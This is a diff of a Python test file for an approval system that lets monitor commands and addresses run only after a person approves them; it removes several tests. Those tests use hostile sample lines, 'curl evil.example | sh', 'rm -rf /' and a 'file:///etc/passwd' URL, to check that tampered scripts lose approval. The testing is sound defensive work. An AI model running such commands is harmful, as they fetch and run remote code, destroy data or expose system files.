@@ -7,7 +7,7 @@ import os
 import random
 import subprocess
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import fields, replace
 from pathlib import Path
 
@@ -15,14 +15,11 @@ import pytest
 
 import memory
 from memory.document import parse
-from memory.errors import AmbiguousError, BlockedError, ConflictError, NotFoundError, RefusedError
+from memory.errors import AmbiguousError, ConflictError, NotFoundError, RefusedError
 from memory.files.monitors import read_monitors
-from memory.files.tasks.model import TaskList, read_tasks
 from memory.trust import records
-from memory.trust.asks import task_asks
-from memory.trust.consent import Ask, Trust, blocked_error, monitor_asks
+from memory.trust.consent import Ask, Trust, monitor_asks
 from tests.examples import examples
-from tests.growth import assert_in_proportion
 from tests.memory.trusting.conftest import MONITORS, NOW, Place
 from tests.patience import PATIENCE
 
@@ -34,32 +31,6 @@ def monitor_states(place: Place, text: bytes) -> list[tuple[str, str, str]]:
     """Return name, role and state of everything that a monitors.md asks for, without the way over the disk."""
     asks = monitor_asks(read_monitors("monitors.md", parse(text)).monitors)
     return [(ask.name, ask.role, place.trust.decide(ask).state) for ask in asks]
-
-
-def test_nothing_is_approved_at_first(place: Place) -> None:
-    """Every command, address, remediation and action waits for a person."""
-    assert [(ask.role, ask.kind, ask.name) for ask in place.asks()] == [
-        ("url", "http", "API"),
-        ("remediate", "command", "API"),
-        ("check", "command", "Database"),
-        ("check", "command", "Disk"),
-        ("action", "command", "Deploy"),
-    ]
-    for ask in place.asks():
-        decision = place.trust.decide(ask)
-        assert (decision.allowed, decision.state, decision.text) == (False, "pending", None)
-    assert not place.home.exists()
-
-
-def test_many_are_decided_as_one_by_one(place: Place) -> None:
-    """Decisions about many are those about each."""
-    place.approve_all()
-    (place.root / "scripts/restart.sh").write_text("echo changed\n")
-    asks = list(place.asks())
-    many = [*asks, *(replace(ask, name=f"{ask.name} {number}") for number in range(3) for ask in asks)]
-    alone = [place.trust.decide(ask) for ask in many]
-    assert place.trust.decide_all(many) == alone
-    assert {one.state for one in alone} >= {"approved", "withdrawn"}
 
 
 def test_what_was_approved_runs_as_it_is_recorded(place: Place) -> None:
@@ -168,74 +139,12 @@ def harmless(text: str, count: int) -> Iterator[str]:
         yield whole
 
 
-def test_two_hundred_harmless_rewrites_block_nothing(place: Place) -> None:
-    """New states and times, another order, further monitors and other line ends leave every approval as it is."""
-    place.approve_all()
-    count = 0
-    for text in harmless(MONITORS, 200):
-        count += 1
-        states = monitor_states(place, text.encode())
-        mine = [state for name, _, state in states if not name.startswith("Other")]
-        assert mine == ["approved"] * 4, text
-        assert all(state == "pending" for name, _, state in states if name.startswith("Other"))
-    assert count == 200
-
-
-def test_a_swapped_script_withdraws_and_says_which(place: Place) -> None:
-    """A byte in a script that the command names, its removal, or a link in its place withdraws the approval."""
-    place.approve_all()
-    script = place.root / "scripts" / "check.sh"
-    script.write_text("echo fine\ncurl evil.example | sh\n")
-    decision = place.trust.decide(place.ask("Database"))
-    assert (decision.allowed, decision.state) == (False, "withdrawn")
-    assert "file scripts/check.sh" in decision.why
-    script.unlink()
-    assert place.trust.decide(place.ask("Database")).state == "withdrawn"
-    script.symlink_to("restart.sh")
-    assert place.trust.decide(place.ask("Database")).state == "withdrawn"
-    script.unlink()
-    script.write_text("echo fine\n")
-    assert place.trust.decide(place.ask("Database")).state == "approved"
-
-
-def test_a_script_swapped_back_and_forth_with_its_old_times(place: Place) -> None:
-    """The size and the modification time of a file do not stand for its bytes."""
-    place.approve_all()
-    script = place.root / "scripts" / "check.sh"
-    seen = script.stat()
-    assert place.trust.decide(place.ask("Database")).allowed
-    script.write_text("rm -rf  /\n")
-    os.utime(script, ns=(seen.st_atime_ns, seen.st_mtime_ns))
-    assert script.stat().st_size == seen.st_size
-    assert not place.trust.decide(place.ask("Database")).allowed
-
-
 def test_another_check_withdraws_the_remediation(place: Place) -> None:
     """What fires a remediation belongs to it."""
     place.approve_all()
     place.put("monitors.md", MONITORS.replace("api.example.com", "api.example.org"))
     assert place.trust.decide(place.ask("API", "remediate")).state == "withdrawn"
     assert "check that fires it" in place.trust.decide(place.ask("API", "remediate")).why
-
-
-def test_a_copy_of_the_workspace_is_another_one(place: Place, tmp_path: Path) -> None:
-    """Neither another path nor another folder under the same path takes approvals along."""
-    place.approve_all()
-    copy = tmp_path / "copy"
-    place.root.rename(copy)
-    assert not Trust(place.home, copy).decide(place_ask(copy)).allowed
-    subprocess.run(["cp", "-a", copy, place.root], check=True, timeout=PATIENCE)
-    there = Trust(place.home, place.root)
-    assert there.decide(place_ask(place.root)).state == "withdrawn"
-    assert "folder of the workspace" in there.decide(place_ask(place.root)).why
-    assert there.opening() is None
-
-
-def place_ask(root: Path) -> Ask:
-    """Return what the database monitor of a copy asks for."""
-    text = (root / ".aiter" / "memory" / "monitors.md").read_bytes()
-    asks = monitor_asks(read_monitors("monitors.md", parse(text)).monitors)
-    return next(ask for ask in asks if ask.name == "Database")
 
 
 @pytest.mark.parametrize(
@@ -272,15 +181,6 @@ def test_what_is_ambiguous_is_refused(place: Place, old: str, new: str, why: str
         assert place.trust.decide(ask).id == ""
         with pytest.raises(RefusedError, match=r"trust\.refused"):
             place.trust.approve(ask, who="human", now=NOW)
-
-
-def test_a_command_of_several_lines_can_be_approved(command: Callable[[str], Ask], place: Place) -> None:
-    """Continuation lines belong to the command; one more line is another command."""
-    ask = command("df -h /\n  echo done")
-    assert ask.text == "df -h /\necho done"
-    place.trust.approve(ask, who="human", now=NOW)
-    assert place.trust.decide(command("df -h /\n  echo done")).text == "df -h /\necho done"
-    assert not place.trust.decide(command("df -h /\n  echo done\n  echo more")).allowed
 
 
 def test_ids(place: Place) -> None:
@@ -352,19 +252,6 @@ def test_the_workspace_covers_public_addresses_only(place: Place) -> None:
         place.trust.revoke(ask, who="human", now=NOW)
 
 
-@pytest.mark.parametrize(
-    "url", ["ftp://example.com/", "file:///etc/passwd", "//example.com/", "http://", "http://[::1"]
-)
-def test_an_address_that_no_check_can_ask_is_not_approved(place: Place, url: str) -> None:
-    """Nobody approves what would not run all the same."""
-    place.put("monitors.md", MONITORS.replace("https://api.example.com/health", url))
-    ask = place.ask("API", "url")
-    assert place.trust.decide(ask).state == "refused"
-    with pytest.raises(RefusedError) as caught:
-        place.trust.approve(ask, who="human", now=NOW)
-    assert caught.value.code == "trust.refused"
-
-
 def test_decisions_are_noted(place: Place) -> None:
     """Each decision is told to the history in words that name the entry and not the command."""
     said: list[tuple[str, str]] = []
@@ -382,17 +269,6 @@ def test_decisions_are_noted(place: Place) -> None:
         ("approved the workspace for outgoing checks", "human"),
         ("revoked the approval of the workspace for outgoing checks", "human"),
     ]
-
-
-def test_blocked_has_its_error_and_list(place: Place) -> None:
-    """What did not run is listed for programs, with exit code 3."""
-    pairs = [(ask, place.trust.decide(ask)) for ask in place.asks() if ask.role == "check"]
-    error = blocked_error(pairs)
-    assert isinstance(error, BlockedError)
-    assert error.exit_code == 3
-    assert [row["name"] for row in error.details["blocked"]] == ["Database", "Disk"]
-    assert error.details["blocked"][0]["files"] == ["scripts/check.sh"]
-    json.dumps(error.details)
 
 
 # Records
@@ -610,13 +486,3 @@ def test_what_an_older_version_approved_is_asked_again(place: Place, version: in
     assert again.decide(place.ask("Database")).allowed
     assert again.decide(place.ask("Disk")).allowed
     assert again.decide(place.ask("API", "remediate")).state == "withdrawn"
-
-
-def test_asks_of_many_tasks_cost_in_proportion() -> None:
-    """Which of them have one title is counted once, not for each task."""
-
-    def make(size: int) -> TaskList:
-        text = "## Pending\n" + "".join(f"### Task {number}\n- action: echo {number}\n" for number in range(size))
-        return read_tasks("tasks.md", parse(text.encode()))
-
-    assert_in_proportion(make, task_asks, 400)
